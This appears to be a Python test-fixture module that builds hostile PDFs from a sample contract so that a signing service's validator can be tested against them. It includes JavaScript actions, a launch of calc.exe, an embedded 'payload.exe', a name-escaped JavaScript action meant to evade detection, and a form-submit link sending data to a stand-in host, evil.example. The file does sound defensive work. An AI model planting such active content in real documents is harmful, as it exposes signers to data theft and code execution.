"""PDFs that must never reach a signer, built in code from the sample contract.

Each builder adds one kind of trouble with pypdf (or by hand, where the trouble is in the file
structure itself), so a test names exactly what it feeds `check_pdf` and the workflow.
"""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Callable
from io import BytesIO

from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields, signers
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from signbridge.pdf.pki import InstallationCA
from signbridge.pdf.sample import sample_contract


def rewrite(data: bytes, change: Callable[[PdfWriter], object]) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(data)))
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _dict(**entries: object) -> DictionaryObject:
    """A PDF dictionary from keyword arguments: names for "/…" strings, text for other strings."""
    d = DictionaryObject()
    for key, value in entries.items():
        if isinstance(value, str):
            value = NameObject(value) if value.startswith("/") else TextStringObject(value)
        d[NameObject("/" + key)] = value  # type: ignore[assignment]
    return d


def _rect() -> ArrayObject:
    return ArrayObject([FloatObject(72), FloatObject(72), FloatObject(144), FloatObject(144)])


def _open_action(action: DictionaryObject) -> Callable[[PdfWriter], None]:
    def change(w: PdfWriter) -> None:
        w._root_object[NameObject("/OpenAction")] = w._add_object(action)

    return change


def _annotation(annot: DictionaryObject) -> Callable[[PdfWriter], None]:
    def change(w: PdfWriter) -> None:
        annot.update({NameObject("/Type"): NameObject("/Annot"), NameObject("/Rect"): _rect()})
        w.pages[0][NameObject("/Annots")] = ArrayObject([w._add_object(annot)])

    return change


def _xfa(w: PdfWriter) -> None:
    stream = DecodedStreamObject()
    stream.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
    w._root_object[NameObject("/AcroForm")] = w._add_object(
        _dict(Fields=ArrayObject(), XFA=w._add_object(stream)))


def _document_script(w: PdfWriter) -> None:
    """A document-level script: the catalog's /Names /JavaScript name tree."""
    script = w._add_object(_dict(S="/JavaScript", JS="app.alert('hi')"))
    w._root_object[NameObject("/Names")] = _dict(JavaScript=_dict(Names=ArrayObject([TextStringObject("s"), script])))


def _page_script(w: PdfWriter) -> None:
    """JavaScript run when the first page opens: in the page's additional actions."""
    w.pages[0][NameObject("/AA")] = _dict(O=_dict(S="/JavaScript", JS="app.alert(1)"))


def _escaped_script(data: bytes) -> bytes:
    """An open action `/S /Java#53cript` (a name escape for /JavaScript), offsets kept intact."""
    plain = rewrite(data, _open_action(_dict(S="/JavaScript", JS="print()xx")))
    escaped = plain.replace(b"/JavaScript", b"/Java#53cript", 1).replace(b"xx)", b")", 1)
    assert len(escaped) == len(plain) and escaped != plain
    return escaped


def looping_prev(data: bytes) -> bytes:
    """An incremental update whose xref trailer's /Prev points at itself.

    pypdf notices the loop and reads the file; pyHanko refuses it ("startxref loop detected"), so
    before the dry run this passed the check and then failed every signer.
    """
    size = int(re.findall(rb"/Size (\d+)", data)[-1])
    catalog = re.search(rb"1 0 obj.*?endobj\n", data, re.S)
    assert catalog is not None
    body = catalog.group(0)
    xref_at = len(data) + len(body)
    xref = (b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(data), size, xref_at, xref_at))
    return data + body + xref


def certified_no_changes(data: bytes) -> bytes:
    """Certified by its author with DocMDP "no changes": nobody may sign it after that."""
    ca = InstallationCA.in_memory("Author")
    meta = signers.PdfSignatureMetadata(field_name="Author", certify=True, docmdp_permissions=fields.MDPPerm.NO_CHANGES)
    out = signers.PdfSigner(meta, ca.issue("author", "Author").signer).sign_pdf(
        IncrementalPdfFileWriter(BytesIO(data), strict=False))
    return bytes(out.getvalue())


def signed_elsewhere(data: bytes) -> bytes:
    """Already signed by another tool in a field named "Signature1", as Acrobat names its first."""
    ca = InstallationCA.in_memory("Elsewhere")
    meta = signers.PdfSignatureMetadata(field_name="Signature1")
    out = signers.PdfSigner(meta, ca.issue("other", "Other").signer,
                            new_field_spec=fields.SigFieldSpec("Signature1", on_page=-1, box=(36, 36, 196, 84)),
                            ).sign_pdf(IncrementalPdfFileWriter(BytesIO(data), strict=False))
    return bytes(out.getvalue())


# kind of active content → a builder from clean bytes. One kind per entry: the check names each.
ACTIVE: dict[str, Callable[[bytes], bytes]] = {
    "javascript (name tree)": lambda d: rewrite(d, _document_script),
    "javascript (open action)": lambda d: rewrite(d, _open_action(_dict(S="/JavaScript", JS="app.alert(1)"))),
    "javascript (page action)": lambda d: rewrite(d, _page_script),
    "javascript (name escape)": _escaped_script,
    "launch": lambda d: rewrite(d, _open_action(_dict(S="/Launch", F="calc.exe"))),
    "embedded file": lambda d: rewrite(d, lambda w: w.add_attachment("payload.exe", b"MZ\x90\x00")),
    "file attachment": lambda d: rewrite(d, _annotation(_dict(Subtype="/FileAttachment",
                                                               FS=_dict(Type="/Filespec", F="a.exe")))),
    "xfa": lambda d: rewrite(d, _xfa),
    "submit form": lambda d: rewrite(d, _annotation(_dict(Subtype="/Link", A=_dict(
        S="/SubmitForm", F=_dict(FS="/URL", F="https://evil.example/collect"))))),
    "import data": lambda d: rewrite(d, _open_action(_dict(S="/ImportData", F="data.fdf"))),
    "rich media": lambda d: rewrite(d, _annotation(_dict(Subtype="/RichMedia"))),
}
# What `check_pdf` reports for each (its `found`).
ACTIVE_FOUND = {
    "javascript (name tree)": ("javascript",),
    "javascript (open action)": ("javascript",),
    "javascript (page action)": ("javascript",),
    "javascript (name escape)": ("javascript",),
    "launch": ("launch",),
    "embedded file": ("embedded_file",),
    "file attachment": ("file_attachment",),
    "xfa": ("xfa",),
    "submit form": ("submit_form",),
    "import data": ("import_data",),
    "rich media": ("rich_media",),
}


def widget_parent_loop(data: bytes) -> bytes:
    """A widget annotation on the last page whose /Parent is itself: inherited-entry lookups must stop."""

    def change(w: PdfWriter) -> None:
        widget = _dict(Type="/Annot", Subtype="/Widget", Rect=_rect())
        ref = w._add_object(widget)
        widget[NameObject("/Parent")] = ref
        w.pages[-1][NameObject("/Annots")] = ArrayObject([ref])

    return rewrite(data, change)


def harmless_extras(data: bytes) -> bytes:
    """What real contracts carry and must still pass: a web link and a plain AcroForm text field."""

    def change(w: PdfWriter) -> None:
        link = w._add_object(_dict(Type="/Annot", Subtype="/Link", Rect=_rect(),
                                   A=_dict(S="/URI", URI="https://corp.example/terms")))
        field = w._add_object(_dict(Type="/Annot", Subtype="/Widget", FT="/Tx", T="company", Rect=_rect()))
        w.pages[0][NameObject("/Annots")] = ArrayObject([link, field])
        w._root_object[NameObject("/AcroForm")] = w._add_object(_dict(Fields=ArrayObject([field])))

    return rewrite(data, change)


def contract() -> bytes:
    return sample_contract("Hostile test")


SIGNED_AT = dt.datetime(2026, 11, 29, 10, 0, tzinfo=dt.UTC)
